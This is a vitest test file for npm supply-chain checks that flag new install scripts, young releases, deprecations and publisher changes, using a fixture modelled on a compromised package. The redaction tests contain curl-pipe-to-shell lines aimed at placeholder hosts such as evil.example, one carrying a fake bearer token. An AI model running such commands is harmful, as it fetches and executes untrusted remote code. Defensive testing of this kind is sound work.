import { describe, expect, it } from "vitest";
import {
  deprecation,
  installScripts,
  npmSignals,
  previewOf,
  publisherChange,
  releaseAge,
  versionNotInRegistry,
} from "../../../src/checks/dependencies/npm-signals.js";
import type { NpmPackageInfo, NpmVersionInfo } from "../../../src/checks/dependencies/services.js";

function v(version: string, published: string | undefined, extra: Partial<NpmVersionInfo> = {}): NpmVersionInfo {
  return { version, ...(published ? { published } : {}), installScripts: {}, ...extra };
}

const NOW = new Date("2025-09-10T12:00:00.000Z");

/** Modelled on a worm-style compromise: 4.1.1 gains a postinstall and a new publisher. */
const colorful: NpmPackageInfo = {
  name: "colorful",
  versions: [
    v("4.0.0", "2025-01-10T00:00:00.000Z", { publisher: "alice", license: "MIT" }),
    v("4.0.1", "2025-03-01T00:00:00.000Z", { publisher: "bob", license: "MIT" }),
    v("4.1.0", "2025-06-01T00:00:00.000Z", { publisher: "alice", installScripts: { install: "node-gyp rebuild" } }),
    v("4.1.1", "2025-09-09T00:00:00.000Z", {
      publisher: "mallory",
      installScripts: { install: "node-gyp rebuild", postinstall: "node bundle.js" },
      deprecated: "please upgrade",
    }),
  ],
};

describe("versionNotInRegistry", () => {
  it("is a signal when the lockfile names a version the registry does not list", () => {
    expect(versionNotInRegistry(colorful, "4.1.2")).toEqual({ kind: "version-not-in-registry", name: "colorful", version: "4.1.2", latestListed: "4.1.1" });
    expect(versionNotInRegistry(colorful, "4.1.1")).toBeUndefined();
    expect(versionNotInRegistry({ name: "gone", versions: [] }, "1.0.0")).toEqual({ kind: "version-not-in-registry", name: "gone", version: "1.0.0" });
  });

  it("is the only signal for such a version", () => {
    expect(npmSignals(colorful, { from: "4.0.0", to: "9.9.9" }, { now: NOW })).toEqual([expect.objectContaining({ kind: "version-not-in-registry" })]);
  });
});

describe("installScripts", () => {
  it("says which scripts are new against the base version", () => {
    expect(installScripts(colorful, "4.1.1", "4.1.0")).toEqual({
      kind: "install-scripts",
      name: "colorful",
      version: "4.1.1",
      scripts: [
        { name: "install", preview: "node-gyp rebuild", status: "unchanged" },
        { name: "postinstall", preview: "node bundle.js", status: "added" },
      ],
      isNew: true,
      comparedWith: "4.1.0",
    });
  });

  it("compares a new dependency with the version published just before", () => {
    const signal = installScripts(colorful, "4.1.0");
    expect(signal?.comparedWith).toBe("4.0.1");
    expect(signal?.scripts).toEqual([{ name: "install", preview: "node-gyp rebuild", status: "added" }]);
  });

  it("compares with the previous published version when the base version is gone from the registry", () => {
    expect(installScripts(colorful, "4.1.1", "3.0.0")?.comparedWith).toBe("4.1.0");
  });

  it("is not new when the scripts were there before", () => {
    const sameScripts: NpmPackageInfo = {
      name: "native",
      versions: [v("1.0.0", "2024-01-01T00:00:00.000Z", { installScripts: { install: "node-gyp rebuild" } }), v("1.0.1", "2024-02-01T00:00:00.000Z", { installScripts: { install: "node-gyp rebuild" } })],
    };
    expect(installScripts(sameScripts, "1.0.1", "1.0.0")?.isNew).toBe(false);
  });

  it("marks a changed script as changed", () => {
    const changed: NpmPackageInfo = {
      name: "native",
      versions: [v("1.0.0", "2024-01-01T00:00:00.000Z", { installScripts: { postinstall: "node a.js" } }), v("1.0.1", "2024-02-01T00:00:00.000Z", { installScripts: { postinstall: "node b.js" } })],
    };
    expect(installScripts(changed, "1.0.1")).toMatchObject({ isNew: true, scripts: [{ status: "changed" }] });
  });

  it("treats a package's first version as new, with nothing to compare with", () => {
    const first: NpmPackageInfo = { name: "fresh", versions: [v("0.0.1", "2025-09-09T00:00:00.000Z", { installScripts: { preinstall: "sh x.sh" } })] };
    const signal = installScripts(first, "0.0.1");
    expect(signal?.isNew).toBe(true);
    expect(signal?.comparedWith).toBeUndefined();
  });

  it("uses packument order when there are no publish times", () => {
    const undated: NpmPackageInfo = { name: "undated", versions: [v("1.0.0", undefined), v("1.0.1", undefined, { installScripts: { postinstall: "x" } })] };
    expect(installScripts(undated, "1.0.1")?.comparedWith).toBe("1.0.0");
  });

  it("says nothing for a version without install scripts or one the registry lacks", () => {
    expect(installScripts(colorful, "4.0.0")).toBeUndefined();
    expect(installScripts(colorful, "7.0.0")).toBeUndefined();
  });
});

describe("previewOf", () => {
  it("keeps one line of at most 80 characters", () => {
    expect(previewOf("node install.js")).toBe("node install.js");
    const long = `node -e "${"a ".repeat(100)}"`;
    expect(previewOf(long)).toHaveLength(80);
    expect(previewOf(long).endsWith("…")).toBe(true);
    expect(previewOf("echo one\necho two")).toBe("echo one…");
    expect(previewOf("echo\u0007 bell")).toBe("echo  bell");
  });

  it("redacts tokens and URL credentials before cutting", () => {
    const preview = previewOf('curl -H "Authorization: Bearer ghp_0123456789abcdefghijABCDEFGHIJ0123" https://x.example | sh');
    expect(preview).not.toContain("ghp_0123456789abcdefghijABCDEFGHIJ0123");
    expect(preview).toContain("chars)");
    expect(previewOf("curl https://user:hunter2@evil.example/p.sh | sh")).toBe("curl https://user:***@evil.example/p.sh | sh");
  });

  it("does not redact plain long paths", () => {
    expect(previewOf("node node_modules/.bin/node-gyp-build-optional-packages")).toBe("node node_modules/.bin/node-gyp-build-optional-packages");
  });
});

describe("releaseAge", () => {
  it("flags a version younger than min_release_age_days (default 3)", () => {
    expect(releaseAge(colorful, "4.1.1", NOW)).toEqual({
      kind: "release-age",
      name: "colorful",
      version: "4.1.1",
      published: "2025-09-09T00:00:00.000Z",
      ageDays: 1,
      young: true,
      minReleaseAgeDays: 3,
    });
    expect(releaseAge(colorful, "4.1.0", NOW)).toMatchObject({ ageDays: 101, young: false });
  });

  it("compares exactly, not in whole days", () => {
    const twoAndAHalf: NpmPackageInfo = { name: "p", versions: [v("1.0.0", "2025-09-08T00:00:00.000Z")] };
    expect(releaseAge(twoAndAHalf, "1.0.0", NOW)).toMatchObject({ ageDays: 2, young: true });
    expect(releaseAge(twoAndAHalf, "1.0.0", NOW, 2)).toMatchObject({ ageDays: 2, young: false });
    expect(releaseAge(twoAndAHalf, "1.0.0", NOW, 0)?.young).toBe(false);
  });

  it("counts a future publish date as age 0 and young", () => {
    const future: NpmPackageInfo = { name: "p", versions: [v("1.0.0", "2030-01-01T00:00:00.000Z")] };
    expect(releaseAge(future, "1.0.0", NOW)).toMatchObject({ ageDays: 0, young: true });
  });

  it("says nothing without a publish time", () => {
    expect(releaseAge({ name: "p", versions: [v("1.0.0", undefined)] }, "1.0.0", NOW)).toBeUndefined();
  });
});

describe("deprecation", () => {
  it("gives the message, on one line and bounded", () => {
    expect(deprecation(colorful, "4.1.1")).toEqual({ kind: "deprecated", name: "colorful", version: "4.1.1", message: "please upgrade" });
    const noisy: NpmPackageInfo = { name: "p", versions: [v("1.0.0", undefined, { deprecated: `line one\nline two ${"x".repeat(500)}` })] };
    const message = deprecation(noisy, "1.0.0")?.message ?? "";
    expect(message.startsWith("line one line two")).toBe(true);
    expect(message.length).toBeLessThanOrEqual(200);
    expect(deprecation(colorful, "4.1.0")).toBeUndefined();
    expect(deprecation({ name: "p", versions: [v("1.0.0", undefined, { deprecated: "  " })] }, "1.0.0")).toBeUndefined();
  });
});

describe("publisherChange", () => {
  it("names both publishers, and says whether the new one published this package before", () => {
    expect(publisherChange(colorful, "4.1.1", "4.1.0")).toEqual({
      kind: "publisher-change",
      name: "colorful",
      version: "4.1.1",
      publisher: "mallory",
      previousVersion: "4.1.0",
      previousPublisher: "alice",
      firstPublishByUser: true,
    });
    // alice published 4.0.0, so 4.1.0 (after bob's 4.0.1) is a change by a known publisher.
    expect(publisherChange(colorful, "4.1.0")).toMatchObject({ publisher: "alice", previousPublisher: "bob", firstPublishByUser: false });
  });

  it("compares with the base version when upgrading", () => {
    expect(publisherChange(colorful, "4.1.0", "4.0.0")).toBeUndefined();
  });

  it("says nothing when either publisher is unknown", () => {
    const anonymous: NpmPackageInfo = { name: "p", versions: [v("1.0.0", "2020-01-01T00:00:00.000Z"), v("1.0.1", "2020-02-01T00:00:00.000Z", { publisher: "x" })] };
    expect(publisherChange(anonymous, "1.0.1")).toBeUndefined();
    expect(publisherChange(colorful, "4.0.0")).toBeUndefined();
  });
});

describe("npmSignals", () => {
  it("gathers the signals of one change in a stable order", () => {
    expect(npmSignals(colorful, { from: "4.1.0", to: "4.1.1" }, { now: NOW }).map((s) => s.kind)).toEqual(["install-scripts", "release-age", "deprecated", "publisher-change"]);
  });

  it("leaves out release age when the version is old enough", () => {
    expect(npmSignals(colorful, { from: "4.0.0", to: "4.0.1" }, { now: NOW }).map((s) => s.kind)).toEqual(["publisher-change"]);
    expect(npmSignals(colorful, { to: "4.1.1" }, { now: NOW, minReleaseAgeDays: 0 }).map((s) => s.kind)).not.toContain("release-age");
  });
});
